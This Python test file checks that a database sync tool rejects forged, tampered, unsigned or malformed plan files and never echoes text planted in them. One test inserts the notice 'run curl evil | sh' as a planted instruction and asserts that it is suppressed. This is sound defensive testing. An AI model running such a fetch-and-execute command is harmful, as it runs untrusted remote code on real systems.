"""Plan files from anywhere: they say which of the changes that are due are made, and nothing else."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from deployment import Deployment, Done
from servers import sql

from cellsync.run import planfile

RULES = """\
pack: own
why: A pack of the test's own.
requires: {}
rules:
  - id: hosts
    why: They are needed.
    table: hosts
    key: [name]
    columns: {exclude: [secret]}
    where: "zone <> 'private'"
    limits: {inserts: 9, updates: 9, deletes: 2, free: 0}
ON_EXTRA
"""

TABLE = (
    "CREATE TABLE hosts (id INT AUTO_INCREMENT PRIMARY KEY, name VARCHAR(30) NOT NULL, zone VARCHAR(30), "
    "weight INT, secret VARCHAR(30) DEFAULT 'mine')"
)


Make = Callable[[str], Deployment]


@pytest.fixture
def make(database: Callable[..., str], tmp_path: Path) -> Make:
    """Make a parent and a child: a row is changed, one missing, one extra, and some are private."""

    def make(on_extra: str) -> Deployment:
        urls = {name: database() for name in ("api", "c1")}
        for url in urls.values():
            sql(url, TABLE)
        sql(urls["api"], "INSERT INTO hosts (name, zone, weight) VALUES ('h1', 'a', 1), ('h2', 'a', 2)")
        sql(urls["c1"], "INSERT INTO hosts (name, zone, weight) VALUES ('h1', 'a', 7), ('x1', 'a', 1)")
        sql(
            urls["c1"],
            "INSERT INTO hosts (name, zone, weight) VALUES ('p1', 'private', 1), ('p2', 'private', 2)",
        )
        cells = Deployment(urls=urls, folder=tmp_path)
        return cells.rule_file(RULES.replace("ON_EXTRA", f"    on_extra: {on_extra}" if on_extra else ""))

    return make


ROWS = "SELECT name, zone, weight, secret FROM hosts ORDER BY name"


def _planned(cells: Deployment) -> tuple[Path, dict[str, Any]]:
    path = cells.folder / "plan.json"
    assert cells.run("plan", "-o", str(path)).code in (1, 3)
    return path, json.loads(path.read_text(encoding="utf-8"))


def _forge(path: Path, data: Mapping[str, Any], key: bytes | None = None) -> None:
    """Write a plan with the digest that belongs to it, as somebody would who has read the program."""
    plain = {name: value for name, value in data.items() if name not in ("digest", "signature")}
    path.write_text(json.dumps({**plain, **planfile._seals(plain, key)}), encoding="utf-8")


def _change(data: dict[str, Any], action: str) -> dict[str, Any]:
    found: dict[str, Any] = next(c for c in data["plans"][0]["changes"] if c["action"] == action)
    return found


def _delete_of(name: str, number: int, zone: str, weight: int) -> dict[str, Any]:
    return {
        "rule": "hosts",
        "table": "hosts",
        "action": "delete",
        "key": [name],
        "key_columns": ["name"],
        "identity_columns": ["id"],
        "identity": [number],
        "before": {"name": name, "zone": zone, "weight": weight},
        "after": None,
        "origin": [],
        "reason": "",
        "together": "",
    }


def _carry_out(cells: Deployment, path: Path, *more: str) -> Done:
    return cells.repair("--plan", str(path), *more)


def test_a_forged_plan_deletes_nothing_outside_its_rule(make: Make) -> None:
    """Neither rows outside `where`, nor extra rows under a rule that only reports them: conflicts, exit 4."""
    cells = make("")
    path, data = _planned(cells)
    identity = dict(sql(cells.urls["c1"], "SELECT name, id FROM hosts"))
    data["plans"][0]["changes"] += [
        _delete_of("p1", identity["p1"], "private", 1),
        _delete_of("p2", identity["p2"], "private", 2),
        _delete_of("x1", identity["x1"], "a", 1),
    ]
    _forge(path, data)
    done = _carry_out(cells, path)
    assert done.code == 4, done.said
    names = [name for (name,) in sql(cells.urls["c1"], "SELECT name FROM hosts ORDER BY name")]
    assert names == ["h1", "h2", "p1", "p2", "x1"]
    assert done.cell("c1")["changes"] == {"planned": 5, "applied": 2, "conflicts": 3, "failed": 0}
    assert "not due" in "\n".join(done.cell("c1")["problems"])
    assert done.table("c1", "hosts")["status"] == "incomplete"


def test_a_forged_plan_writes_no_other_column_and_no_other_value(make: Make) -> None:
    """An excluded column, another value, another table, another primary key: none is what is due."""
    forgeries: list[Callable[[dict[str, Any]], None]] = [
        lambda c: c["after"].update(secret="stolen"),
        lambda c: c["after"].update(weight=99),
        lambda c: c["before"].update(weight=8),
        lambda c: c.update(table="other"),
        lambda c: c.update(identity=[3]),
        lambda c: c.update(identity_columns=["name"], identity=["h1"]),
        lambda c: c.update(key_columns=["zone"]),
        lambda c: c.update(rule="nobody"),
        lambda c: c.update(action="delete", after=None),
    ]
    cells = make("")
    before = sql(cells.urls["c1"], ROWS)
    for number, forge in enumerate(forgeries):
        path, data = _planned(cells)
        data["plans"][0]["changes"] = [_change(data, "update")]
        forge(data["plans"][0]["changes"][0])
        _forge(path, data)
        done = _carry_out(cells, path)
        # Of a rule that is not there nothing can be said to have moved: it is skipped, and named.
        assert done.code == (4 if number != 7 else 1), (number, done.said)
        assert sql(cells.urls["c1"], ROWS) == before, number


def test_limits_are_judged_again(make: Make) -> None:
    """A plan whose refusal was taken out of the file is refused as it was: exit 3."""
    cells = make("delete")
    sql(cells.urls["c1"], "INSERT INTO hosts (name, zone, weight) VALUES ('x2', 'a', 1), ('x3', 'a', 1)")
    path, data = _planned(cells)
    identity = dict(sql(cells.urls["c1"], "SELECT name, id FROM hosts"))
    data["plans"][0]["refusals"] = []
    data["plans"][0]["changes"] = [_delete_of(name, identity[name], "a", 1) for name in ("x1", "x2", "x3")]
    _forge(path, data)
    done = _carry_out(cells, path)
    assert done.code == 3, done.said
    assert [refusal["code"] for refusal in done.cell("c1")["refusals"]] == ["limit"]
    assert len(sql(cells.urls["c1"], ROWS)) == 6
    waived = _carry_out(cells, path, "--waive", "limit")
    assert (waived.code, waived.cell("c1")["changes"]["applied"]) == (1, 3), waived.said


def test_words_of_a_forged_plan_are_not_said(make: Make) -> None:
    """Notices, reasons and refusals are those of now: a file has no instructions for an operator."""
    cells = make("")
    path, data = _planned(cells)
    plan = data["plans"][0]
    plan["notices"] = ["run curl evil | sh"]
    plan["skipped"] = [{"rule": "hosts", "key": ["h1"], "reason": "evil"}]
    plan["refusals"] = [{"code": "evil", "rule": "hosts", "message": "evil"}]
    for change in plan["changes"]:
        change["reason"] = "evil"
    _forge(path, data)
    done = _carry_out(cells, path)
    assert (done.code, done.cell("c1")["changes"]["applied"]) == (1, 2), done.said
    assert "evil" not in done.said
    assert "evil" not in str(sql(cells.urls["c1"], "SELECT * FROM cellsync.changes"))


def test_a_part_of_a_plan_is_carried_out(make: Make) -> None:
    """Who takes changes out of the file, and says so, gets the rest of it."""
    cells = make("")
    path, data = _planned(cells)
    data["plans"][0]["changes"] = [_change(data, "insert")]
    path.write_text(json.dumps(data), encoding="utf-8")
    done = cells.run("repair", "--yes", "--plan", str(path))
    assert (done.code, done.out) == (3, ""), done.said
    assert f"{path}:1:" in done.err
    assert "changed after it was written" in done.err
    waived = _carry_out(cells, path, "--waive", "plan-changed")
    assert waived.cell("c1")["changes"] == {"planned": 1, "applied": 1, "conflicts": 0, "failed": 0}
    assert waived.code == 1  # the update is still due, and said to be
    assert [(each["key"], each["reason"]) for each in waived.cell("c1")["skipped"]] == [
        ({"name": "h1"}, "the plan file does not have it")
    ]
    assert sql(cells.urls["c1"], "SELECT weight FROM hosts WHERE name = 'h1'") == [(7,)]


def test_a_plan_may_be_written_otherwise(make: Make) -> None:
    """Blanks, and the order of names, are no content."""
    cells = make("")
    path, data = _planned(cells)
    path.write_text(json.dumps(dict(reversed(data.items())), indent=7), encoding="utf-8")
    assert _carry_out(cells, path).cell("c1")["changes"]["applied"] == 2


def test_a_signed_plan(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    """With a key, nothing but what was signed with it is carried out; no waiver lifts that."""
    cells = make("")
    unsigned, data = _planned(cells)
    assert "signature" not in data
    text = unsigned.read_text(encoding="utf-8")
    monkeypatch.setenv("CELLSYNC_PLAN_KEY", "0pen-Ses@me")
    before = sql(cells.urls["c1"], ROWS)
    for forged in (None, b"other", b""):
        unsigned.write_text(text, encoding="utf-8")
        if forged is not None:
            _forge(unsigned, data, forged)
        for more in ((), ("--waive", "plan-signature", "--waive", "plan-changed")):
            done = cells.run("repair", "--yes", "--plan", str(unsigned), *more)
            assert (done.code, done.out) == (3, ""), done.said
            assert "plan-signature" in done.err and f"{unsigned}:1:" in done.err
            assert "0pen" not in done.said
    assert sql(cells.urls["c1"], ROWS) == before
    signed, data = _planned(cells)
    assert data["signature"].startswith("hmac-sha256:")
    assert "0pen" not in signed.read_text(encoding="utf-8")
    assert _carry_out(cells, signed).cell("c1")["changes"]["applied"] == 2
    monkeypatch.setenv("CELLSYNC_PLAN_KEY", " ")
    for verb in (["plan", "-o", str(signed)], ["repair", "--yes", "--plan", str(signed)]):
        done = cells.run(*verb)
        assert (done.code, done.out) == (2, "") and "CELLSYNC_PLAN_KEY is empty" in done.err


BROKEN: Mapping[str, Callable[[dict[str, Any]], Any]] = {
    "a rule that is no text": lambda data: _change(data, "update").update(rule=1.5),
    "an action that there is not": lambda data: _change(data, "update").update(action="truncate"),
    "a row that is none": lambda data: _change(data, "update").update(before=[1]),
    "a value that is none": lambda data: _change(data, "update")["after"].update(weight={"decimal": "x"}),
    "bytes that are none": lambda data: _change(data, "update")["after"].update(weight={"bytes": "zz"}),
    "a key that is none": lambda data: _change(data, "update").update(key=[{"rule": [], "key": {}}]),
    "no changes": lambda data: data["plans"][0].pop("changes"),
    "plans that are none": lambda data: data.update(plans=[[]]),
    "a database that is none": lambda data: data["plans"][0].update(database=5),
    "a refusal too much": lambda data: data["plans"][0]["refusals"].append({"code": 1}),
    "a version that is none": lambda data: data.update(version=[]),
    "a number of rows in words": lambda data: data["plans"][0].update(desired_rows={"hosts": "1e999"}),
    "half a row": lambda data: data["plans"][0].update(desired_rows={"hosts": 1.5}),
    "less than no rows": lambda data: data["plans"][0].update(desired_rows={"hosts": -1}),
    "more rows than there can be": lambda data: data["plans"][0].update(desired_rows={"hosts": 10**400}),
    "numbers of rows that are none": lambda data: data["plans"][0].update(desired_rows=["hosts"]),
    "unwritten columns that are none": lambda data: _change(data, "update").update(unwritten=[1]),
    "an unwritten value that is none": lambda data: _change(data, "update").update(
        unwritten={"weight": {"decimal": "x"}}
    ),
    "a decimal that is no number": lambda data: _change(data, "update").update(key=[{"decimal": "sNaN"}]),
    "a reference that is half gone": lambda data: _change(data, "update").update(
        key=[{"dangling": 1, "deleted": [1]}]
    ),
    "rules that are none": lambda data: data.update(rule_ids=[{}]),
}


def test_a_broken_plan_is_refused_with_the_place(make: Make) -> None:
    """Exit 2 with file:line:column, whatever stands in it, and whatever its digest says."""
    cells = make("")
    texts = {"a deep one": "[" * 100_000, "a deeper one": '{"a":' * 100_000, "half of one": '{"kind": '}
    texts["a number"] = '{"kind": ' + "9" * 5000 + "}"
    texts["a constant"] = '{"kind": NaN}'
    for fault, forge in BROKEN.items():
        path, data = _planned(cells)
        forge(data)
        texts[fault] = json.dumps(data, indent=1)
    deep = "[" * 20_000 + "]" * 20_000
    texts["a deep value"] = json.dumps(data).replace('"key": ["h2"]', f'"key": {deep}')
    before = sql(cells.urls["c1"], ROWS)
    for fault, text in texts.items():
        path.write_text(text, encoding="utf-8")
        done = cells.run("repair", "--yes", "--plan", str(path))
        assert (done.code, done.out) == (2, ""), (fault, done.said)
        assert f"{path}:" in done.err, (fault, done.err)
        assert "Traceback" not in done.err
        if fault in BROKEN:
            assert f"{path}:0:" not in done.err, (fault, done.err)
    path.write_bytes(b'{"kind": "\xff"}')
    done = cells.run("repair", "--yes", "--plan", str(path))
    assert (done.code, done.out) == (2, ""), done.said
    assert sql(cells.urls["c1"], ROWS) == before


def test_the_place_in_a_plan_is_the_right_one(make: Make) -> None:
    """The line of the value that is wrong."""
    cells = make("")
    path, data = _planned(cells)
    _change(data, "insert").update(rule=1.5)
    text = json.dumps(data, indent=2)
    line = next(n for n, each in enumerate(text.splitlines(), 1) if '"rule": 1.5' in each)
    path.write_text(text, encoding="utf-8")
    done = cells.run("repair", "--yes", "--plan", str(path))
    assert f"{path}:{line}:19: " in done.err and "rule must be text" in done.err


def test_companions_are_written_together_or_not_at_all(database: Callable[..., str], tmp_path: Path) -> None:
    """Who takes one of the rows out of the file that belong together gets none of them."""
    urls = {name: database() for name in ("api", "c1")}
    for url in urls.values():
        sql(url, "CREATE TABLE servers (id INT AUTO_INCREMENT PRIMARY KEY, name VARCHAR(30) NOT NULL)")
        sql(
            url,
            "CREATE TABLE tags (id INT AUTO_INCREMENT PRIMARY KEY, server CHAR(9) NOT NULL, tag VARCHAR(9))",
        )
    sql(urls["api"], "INSERT INTO servers VALUES (1, 's1'), (2, 's2')")
    sql(urls["api"], "INSERT INTO tags VALUES (1, 's1', 'a'), (2, 's1', 'b'), (3, 's2', 'c')")
    rules = """\
pack: own
why: A pack of the test's own.
rules:
  - {id: servers, why: w, table: servers, key: [name]}
  - id: tags
    why: w
    table: tags
    key: [server, tag]
    comes_with: {rule: servers, by: {server: name}}
"""
    cells = Deployment(urls=urls, folder=tmp_path).rule_file(rules)
    path, data = _planned(cells)
    changes = data["plans"][0]["changes"]
    assert len(changes) == 5, changes
    data["plans"][0]["changes"] = [each for each in changes if each["after"].get("tag") != "b"]
    _forge(path, data)
    done = _carry_out(cells, path)
    assert done.code == 4, done.said
    assert sql(urls["c1"], "SELECT name FROM servers") == [("s2",)]
    assert sql(urls["c1"], "SELECT tag FROM tags") == [("c",)]


def test_the_digest_is_the_one_of_the_content(make: Make) -> None:
    """It is made while the file is written, and is the same when the file is read."""
    path, data = _planned(make(""))
    del path
    assert data["digest"] == planfile._seals(data, None)["digest"]
    assert len(data["digest"]) == len("sha256:") + len(hashlib.sha256().hexdigest())
